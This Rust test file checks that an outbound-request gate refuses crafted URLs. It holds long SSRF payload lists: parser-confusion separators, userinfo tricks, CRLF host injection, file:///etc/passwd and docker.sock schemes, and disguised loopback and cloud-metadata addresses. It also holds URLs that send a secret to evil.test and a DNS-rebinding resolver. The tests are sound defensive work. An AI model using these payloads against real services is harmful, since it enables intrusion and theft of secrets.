//! TI-03, TI-04, HT-10, HT-12: texts that try to lead a request past the host that was decided on.
//!
//! Two servers share a port on two addresses of loopback, and a resolver sends one name to the first and every other
//! name to the second. No address is refused here, so nothing but the decision stands between a node and the second one.

use std::io;
use std::net::IpAddr;
use std::sync::{Arc, Mutex};

use async_trait::async_trait;
use cleargate_flow::error::ErrorCode;
use cleargate_flow::{NodeError, Value};
use cleargate_gate::*;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;

use crate::bench::{Bench, Turns, ok, redirect, serve};

/// The host that is granted.
const GOOD: &str = "api.example.com";

/// Notes the names that it is asked for.
#[derive(Default)]
struct Names(Mutex<Vec<String>>);

#[async_trait]
impl Resolver for Names {
    async fn resolve(&self, host: &str) -> io::Result<Vec<IpAddr>> {
        self.0.lock().unwrap().push(host.into());
        Ok(vec![if host == GOOD { [127, 0, 0, 1].into() } else { [127, 0, 0, 2].into() }])
    }
}

/// Answers everybody, and keeps the heads of the requests.
async fn listen(listener: TcpListener, heard: Arc<Mutex<Vec<String>>>) {
    while let Ok((mut peer, _)) = listener.accept().await {
        let mut buffer = vec![0; 16 * 1024];
        let read = peer.read(&mut buffer).await.unwrap_or(0);
        heard.lock().unwrap().push(String::from_utf8_lossy(&buffer[..read]).into_owned());
        let _ = peer.write_all(&ok("hello")).await;
    }
}

struct Pair {
    port: u16,
    good: Arc<Mutex<Vec<String>>>,
    evil: Arc<Mutex<Vec<String>>>,
    names: Arc<Names>,
    tasks: tokio::task::JoinSet<()>,
}

async fn pair() -> Pair {
    let (mut tasks, good, evil) = (tokio::task::JoinSet::new(), Arc::default(), Arc::default());
    loop {
        let first = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = first.local_addr().unwrap().port();
        // Somebody else may have the same port on the other address.
        let Ok(second) = TcpListener::bind(("127.0.0.2", port)).await else { continue };
        tasks.spawn(listen(first, Arc::clone(&good)));
        tasks.spawn(listen(second, Arc::clone(&evil)));
        return Pair { port, good, evil, names: Arc::default(), tasks };
    }
}

impl Pair {
    fn bench(&self, grants: &str, secrets: MemorySecrets) -> Bench {
        let grants = grants.replace("{port}", &self.port.to_string());
        let mut bench = Bench::with(&grants, &["127.0.0.0/8"], self.names.clone(), secrets);
        bench.quotas.host_calls = 100_000;
        bench.quotas.http_calls = 100_000;
        bench
    }

    /// Asserts that nothing but the granted host was asked for or spoken to.
    fn assert_kept(&self, url: &str) {
        assert!(self.evil.lock().unwrap().is_empty(), "{url:?} reached another host");
        let names = std::mem::take(&mut *self.names.0.lock().unwrap());
        assert!(
            names.iter().all(|name| name == GOOD),
            "{url:?} made the resolver ask for {names:?}"
        );
        for head in std::mem::take(&mut *self.good.lock().unwrap()) {
            let host = format!("host: {GOOD}:{}\r\n", self.port);
            assert!(head.to_ascii_lowercase().contains(&host), "{url:?} sent {head:?}");
        }
    }
}

async fn get(pass: &Pass, url: &str) -> Result<(), NodeError> {
    pass.perform(Request::Http(HttpRequest::get(url))).await.map(drop)
}

/// What stands between the granted name and another one, or around them, to make two readers disagree.
const JOINTS: &[&str] = &[
    "@",
    ":x@",
    "%40",
    "%2540",
    ":80@",
    ":@",
    "@@",
    "%00@",
    "%00",
    "%20",
    "%09",
    "%0a",
    "%0d%0a",
    "#@",
    "?@",
    "/@",
    "\\@",
    "\\",
    "\\\\",
    "%5c",
    "%255c",
    "%2f",
    "%252f",
    "%23",
    "%3f",
    ";",
    ";@",
    "&",
    "&@",
    ",",
    "|",
    "^",
    "`",
    "'",
    "\"",
    "<",
    ">",
    "{",
    "}",
    "[",
    "]",
    "(",
    ")",
    "$",
    "!",
    "*",
    "+",
    "=",
    "~",
    " ",
    "\t",
    "\n",
    "\r",
    "\r\n",
    "\0",
    "\u{b}",
    "\u{7f}",
    "\u{80}",
    "\u{a0}",
    "\u{ad}",
    "\u{200b}",
    "\u{202e}",
    "\u{2028}",
    "\u{feff}",
    "\u{ff20}",
    "\u{ff0f}",
    "\u{2044}",
    "\u{ff1a}",
    "\u{ff03}",
    "\u{ff1f}",
    "\u{ff3c}",
    "\u{3002}",
    "\u{ff0e}",
    "\u{ff61}",
    "..",
    "./",
    "/../",
    "//",
    "///",
    ":",
    "::",
    ":0@",
    ":99999@",
    ":-1@",
    ":0x50@",
    ":80#@",
    ":80?@",
    ":80\\@",
    "%E2%80%AE",
    "%EF%BC%A0",
    "&#64;",
    "\\u0040",
    "\\x40",
    "%u0040",
    "=@",
    "*.",
];

/// Whole texts. `{e}` is the other host with the port, `{g}` the granted one, `{p}` the port.
const TEXTS: &[&str] = &[
    "http:{e}",
    "http:/{e}",
    "http:///{e}",
    "http:////{e}",
    "http:\\\\{e}",
    "http:/\\{e}",
    "//{e}",
    "\\\\{e}",
    "{e}",
    "HTTP://{e}/",
    "hTtP://{e}/",
    "http://{e}#http://{g}/",
    "http://{e}?http://{g}/",
    "http://{e}/http://{g}/",
    "http://http://{g}/",
    "http://http:{p}@127.0.0.2:{p}/",
    "view-source:http://{g}/",
    "url:http://{g}/",
    "jar:http://{g}!/",
    "blob:http://{g}/",
    "feed:http://{g}/",
    "ws://{g}/",
    "wss://{g}/",
    "ftp://{g}/",
    "file://{g}/etc/passwd",
    "gopher://{g}/_GET",
    "dict://{g}/",
    "ldap://{g}/",
    "tftp://{g}/",
    "data:text/html,x",
    "javascript:alert(1)",
    "http+unix://%2Fvar%2Frun%2Fdocker.sock/",
    "unix:/var/run/docker.sock",
    "http://{g}:{p}/",
    "http://{g}{p}/",
    "http://127.0.0.2:{p}/",
    "http://127.0.2:{p}/",
    "http://127.2:{p}/",
    "http://2130706434:{p}/",
    "http://0x7f000002:{p}/",
    "http://0x7f.0.0.2:{p}/",
    "http://0177.0.0.2:{p}/",
    "http://017700000002:{p}/",
    "http://127.0.0.02:{p}/",
    "http://127.0.0.0x2:{p}/",
    "http://[::ffff:127.0.0.2]:{p}/",
    "http://[::ffff:7f00:2]:{p}/",
    "http://[::127.0.0.2]:{p}/",
    "http://[64:ff9b::7f00:2]:{p}/",
    "http://[::1]:{p}/",
    "http://[::]:{p}/",
    "http://0:{p}/",
    "http://0.0.0.0:{p}/",
    "http://localhost:{p}/",
    "http://LOCALHOST:{p}/",
    "http://api.example.com.evil.test:{p}/",
    "http://evilapi.example.com:{p}/",
    "http://example.com:{p}/",
    "http://com:{p}/",
    "http://api.example.co:{p}/",
    "http://api.example.com.:{p}/",
    "http://.api.example.com:{p}/",
    "http://api..example.com:{p}/",
    "http://api.example.com%2eevil.test:{p}/",
    "http://xn--api.example.com:{p}/",
    "http://api.ex\u{e4}mple.com:{p}/",
    "http://\u{430}pi.example.com:{p}/",
    "http://api.example.c\u{43e}m:{p}/",
    "http://api.\u{212f}xample.com:{p}/",
    "http://\u{24b6}pi.example.com:{p}/",
    "http://api.example.com\u{2024}evil.test:{p}/",
    "http://%61pi.example.com:{p}/",
    "http://api%2Eexample%2Ecom:{p}/",
    "https://{g}/",
    "http://{g}:80/",
    "http://api.example.com/",
    "http://api.example.com:443/",
    "http://api.example.com:0{p}/",
    "http://api.example.com:+{p}/",
    "http://api.example.com:{p}0/",
    "http://api.example.com:{p}:{p}/",
    "http://api.example.com: {p}/",
    "http://api.example.com:\u{ff11}/",
    "http://user@{g}/",
    "http://user:pass@{g}/",
    "http://@{g}/",
    "http://:@{g}/",
    "http://{g}@{e}/",
    "http://{g}:x@{e}/",
    "http://{g}%40{e}/",
    "http://{g}#@{e}/",
    "http://{g}?@{e}/",
    "http://{g}/@{e}/",
    "http://{g}\\@{e}/",
    "http://{e}\\@{g}/",
    "http://{e}#@{g}/",
    "http://{e}?@{g}/",
    "http://{e}/@{g}/",
    "http://[{g}]/",
    "http://[{g}",
    "http://{g}]/",
    "http://[api.example.com]:{p}/",
    "",
    " ",
    "http://",
    "http://:{p}/",
    "http://?{g}",
    "http://#{g}",
    "http:// {g}/",
    " http://{g}/",
    "\thttp://{g}/",
    "http://{g}/ ",
    "http\t://{g}/",
    "ht\ntp://{g}/",
    "http://{g}/\r\nHost: evil.test\r\n\r\n",
    "http://{g}/\u{0}",
    "http://{g}/%0d%0aHost:%20evil.test",
    "http://{g}/a/../../b",
    "http://{g}//evil.test/",
    "http://{g}/\\evil.test",
    "http://{g}/?url=http://{e}/",
    "http://{g}/;@{e}",
    "http://{g}/%2e%2e/%2e%2e/",
    "http://{g}/?a#b@{e}",
];

/// Every text of TI-03: some three hundred.
fn corpus(port: u16) -> Vec<String> {
    let (good, evil) = (format!("{GOOD}:{port}"), format!("evil.test:{port}"));
    let whole = TEXTS.iter().map(|text| {
        let text = text.replace("{g}", &good).replace("{e}", &evil);
        text.replace("{p}", &port.to_string())
    });
    let joined = JOINTS.iter().flat_map(|joint| {
        [format!("http://{GOOD}{joint}{evil}/"), format!("http://{evil}{joint}{good}/")]
    });
    whole.chain(joined).collect()
}

#[tokio::test]
async fn ti_03_no_text_leads_to_a_host_that_was_not_decided_on() {
    let pair = pair().await;
    let corpus = corpus(pair.port);
    assert!(corpus.len() >= 200, "{} texts", corpus.len());
    let bench =
        pair.bench(r#"{"http":["http://api.example.com:{port}"]}"#, MemorySecrets::default());
    let mut reached = 0;
    for url in &corpus {
        // A new pass for each: nothing is remembered, and no connection is used again.
        let outcome = get(&bench.fresh("acme", "p"), url).await;
        pair.assert_kept(url);
        match outcome {
            Ok(()) => reached += 1,
            Err(error) => {
                let refused = matches!(error.code, ErrorCode::InvalidInput | ErrorCode::Denied);
                assert!(refused, "{url:?}: {error}");
            }
        }
        // The same text as a redirect of the granted host.
        if url.bytes().all(|byte| byte.is_ascii_graphic()) {
            let text = url.clone();
            let server = serve(move |_| redirect(302, &text), None).await;
            let from = format!("http://127.0.0.1:{}", server.port);
            let json = format!(r#"{{"http":["http://api.example.com:{{port}}","{from}"]}}"#);
            let bench = pair.bench(&json, MemorySecrets::default());
            let _ = get(&bench.fresh("acme", "p"), &format!("{from}/")).await;
            pair.assert_kept(url);
        }
    }
    assert!((1..20).contains(&reached), "{reached} of them mean the granted host");
    drop(pair.tasks);
}

#[tokio::test]
async fn ti_04_what_a_node_may_reach_is_all_that_it_can_tell() {
    let pair = pair().await;
    let secret = "canary-s3cret-value";
    let hosts = vec![format!("http://{GOOD}:{}", pair.port).parse().unwrap()];
    let secrets = [("k".to_owned(), SecretEntry::new(secret, hosts).unwrap())];
    // Two nodes of one flow: what one of them may reach does not serve the other.
    let grants = r#"{"http":["http://api.example.com:{port}"],"secrets":["k"],"reveal":["k"]}"#;
    let bench = pair.bench(grants, secrets.into_iter().collect());
    let none = pair.bench(r#"{"http":["http://other.test:{port}"]}"#, MemorySecrets::default());
    let pass = bench.fresh("acme", "reader");
    let Ok(Response::Placeholder { token, .. }) =
        pass.perform(Request::Secret { label: "k".into() }).await
    else {
        panic!("no placeholder")
    };
    let coded = hex::encode(secret);
    let port = pair.port;
    for url in [
        // In a query, a path, a name of DNS, an image of a page, a webhook, a fragment, a port.
        format!("http://evil.test:{port}/?data={secret}"),
        format!("http://evil.test:{port}/{coded}"),
        format!("http://{coded}.evil.test:{port}/"),
        format!("http://{token}.evil.test:{port}/"),
        format!("http://{token}.example.com:{port}/"),
        format!("http://{coded}.api.example.com:{port}/"),
        format!("http://img.evil.test:{port}/pixel.png?{coded}"),
        format!("http://hooks.evil.test:{port}/services/T0/B0"),
        format!("http://api.example.com:1/{coded}"),
    ] {
        for method in ["GET", "POST", "HEAD"] {
            let mut request = HttpRequest { method: method.into(), ..HttpRequest::get(&url) };
            if method == "POST" {
                request.body = Some(secret.into());
            }
            let error = pass.perform(Request::Http(request)).await.unwrap_err();
            assert_eq!(error.code, ErrorCode::Denied, "{method} {url}: {error}");
            assert!(!error.to_string().contains(secret), "{error}");
        }
        // Not even the resolver is asked: a name is a message too.
        assert!(pair.names.0.lock().unwrap().is_empty(), "{url} was resolved");
        pair.assert_kept(&url);
    }
    let stranger = none.fresh("acme", "summarizer");
    let error = get(&stranger, &format!("http://{GOOD}:{port}/")).await.unwrap_err();
    assert_eq!(error.code, ErrorCode::Denied);
    assert!(pair.names.0.lock().unwrap().is_empty());
    get(&pass, &format!("http://{GOOD}:{port}/?key={token}")).await.unwrap();
    assert!(pair.good.lock().unwrap()[0].contains(secret), "its own host gets it");
    pair.assert_kept("the granted host");
    // Each refusal is on record, and none with the secret.
    let records = format!("{:?}", bench.audit.records());
    assert!(records.matches("evil.test").count() >= 20 && !records.contains(secret), "{records}");
    drop(pair.tasks);
}

/// Addresses that lead inside, as they are written; those that have no other notation can be granted.
const INSIDE: &[&str] = &[
    "127.0.0.1",
    "127.255.255.254",
    "[::1]",
    "0.0.0.0",
    "[::]",
    "169.254.169.254",
    "[fd00:ec2::254]",
    "[fd00::1]",
    "[fe80::1]",
    "100.64.0.1",
    "100.100.100.200",
    "10.0.0.1",
    "172.16.0.1",
    "192.168.0.1",
    "[64:ff9b::7f00:1]",
    "[64:ff9b::a9fe:a9fe]",
    "[64:ff9b:1::7f00:1]",
    "[2002:7f00:1::1]",
    "[::ffff:7f00:1]",
    "[::ffff:a9fe:a9fe]",
    "[::7f00:1]",
    "224.0.0.1",
    "255.255.255.255",
    "[ff02::1]",
];

/// Other notations of such addresses: of no form that is decided on.
const DISGUISED: &[&str] = &[
    "2130706433",
    "0x7f.1",
    "017700000001",
    "0x7f000001",
    "0177.0.0.1",
    "127.1",
    "127.0.1",
    "0",
    "0x0",
    "00",
    "2852039166",
    "0xa9fea9fe",
    "0251.0376.0251.0376",
    "025177524776",
    "169.254.43518",
    "[::ffff:127.0.0.1]",
    "[::127.0.0.1]",
    "[0:0:0:0:0:0:0:1]",
    "[0000::1]",
    "[::ffff:0:127.0.0.1]",
    "[64:ff9b::127.0.0.1]",
    "[::1%25lo]",
    "[fe80::1%25eth0]",
    "127.0.0.1.",
    "127。0。0。1",
    "①②⑦.0.0.1",
    "127.0.0.1%00",
    "127.000.000.001",
];

#[tokio::test]
async fn ht_10_no_notation_of_an_address_leads_inside() {
    let server = serve(|_| ok("inside"), None).await;
    let port = server.port;
    let reach = async |bench: Bench, url: String| {
        let pass = bench.fresh("acme", "p");
        let fetched = get(&pass, &url);
        let soon = tokio::time::timeout(std::time::Duration::from_secs(5), fetched).await;
        soon.unwrap_or_else(|_| panic!("{url} was connected to")).unwrap_err()
    };
    let bench = |grant: &str, addresses: &[&str]| {
        let json = format!(r#"{{"http":["{grant}"]}}"#);
        Bench::with(&json, &[], Turns::new(&[addresses]), MemorySecrets::default())
    };
    for address in INSIDE {
        let grant = format!("http://{address}:{port}");
        let error = reach(bench(&grant, &["1.1.1.1"]), format!("{grant}/")).await;
        assert_eq!(error.code, ErrorCode::Denied, "{address}: {error}");
        // The same as the answer of a resolver, alone and beside an honest one.
        let plain = address.trim_matches(['[', ']']);
        let name = format!("http://api.test:{port}");
        for answer in [&[plain][..], &["1.1.1.1", plain], &[plain, "2606:4700::1111"]] {
            let error = reach(bench(&name, answer), format!("{name}/")).await;
            assert_eq!(error.code, ErrorCode::Denied, "{answer:?}: {error}");
        }
    }
    for host in DISGUISED {
        let error =
            reach(bench("http://127.0.0.1:80", &["1.1.1.1"]), format!("http://{host}:{port}/"))
                .await;
        assert_eq!(error.code, ErrorCode::InvalidInput, "{host}: {error}");
        // Nobody can grant it either.
        let pattern = Value::from(format!("http://{host}:{port}"));
        let granted = pattern.to::<cleargate_flow::grant::HostPattern>();
        let same = granted.is_ok_and(|pattern| pattern.covers("http", "127.0.0.1", port));
        assert!(!same, "{host} grants another address");
    }
    assert!(server.seen.lock().unwrap().is_empty());
}

/// Counts how often it is asked, and gives another address each time.
struct Rebinding(Mutex<u8>);

#[async_trait]
impl Resolver for Rebinding {
    async fn resolve(&self, _: &str) -> io::Result<Vec<IpAddr>> {
        let mut asked = self.0.lock().unwrap();
        *asked += 1;
        Ok(vec![[127, 0, 0, *asked].into()])
    }
}

#[tokio::test]
async fn ht_12_what_was_checked_is_what_is_connected_to() {
    let pair = pair().await;
    let resolver = Arc::new(Rebinding(Mutex::new(0)));
    let json = format!(r#"{{"http":["http://api.test:{}"]}}"#, pair.port);
    let allow = ["127.0.0.1/32"];
    let bench = Bench::with(&json, &allow, resolver.clone(), MemorySecrets::default());
    let url = format!("http://api.test:{}/", pair.port);
    // The first answer is allowed. A second question would lead to the other server.
    get(&bench.fresh("acme", "p"), &url).await.unwrap();
    assert_eq!(*resolver.0.lock().unwrap(), 1, "one connection, one question");
    assert_eq!(pair.good.lock().unwrap().len(), 1);
    let error = get(&bench.fresh("acme", "p"), &url).await.unwrap_err();
    assert_eq!((error.code, *resolver.0.lock().unwrap()), (ErrorCode::Denied, 2), "{error}");
    assert!(pair.evil.lock().unwrap().is_empty());
    drop(pair.tasks);
}
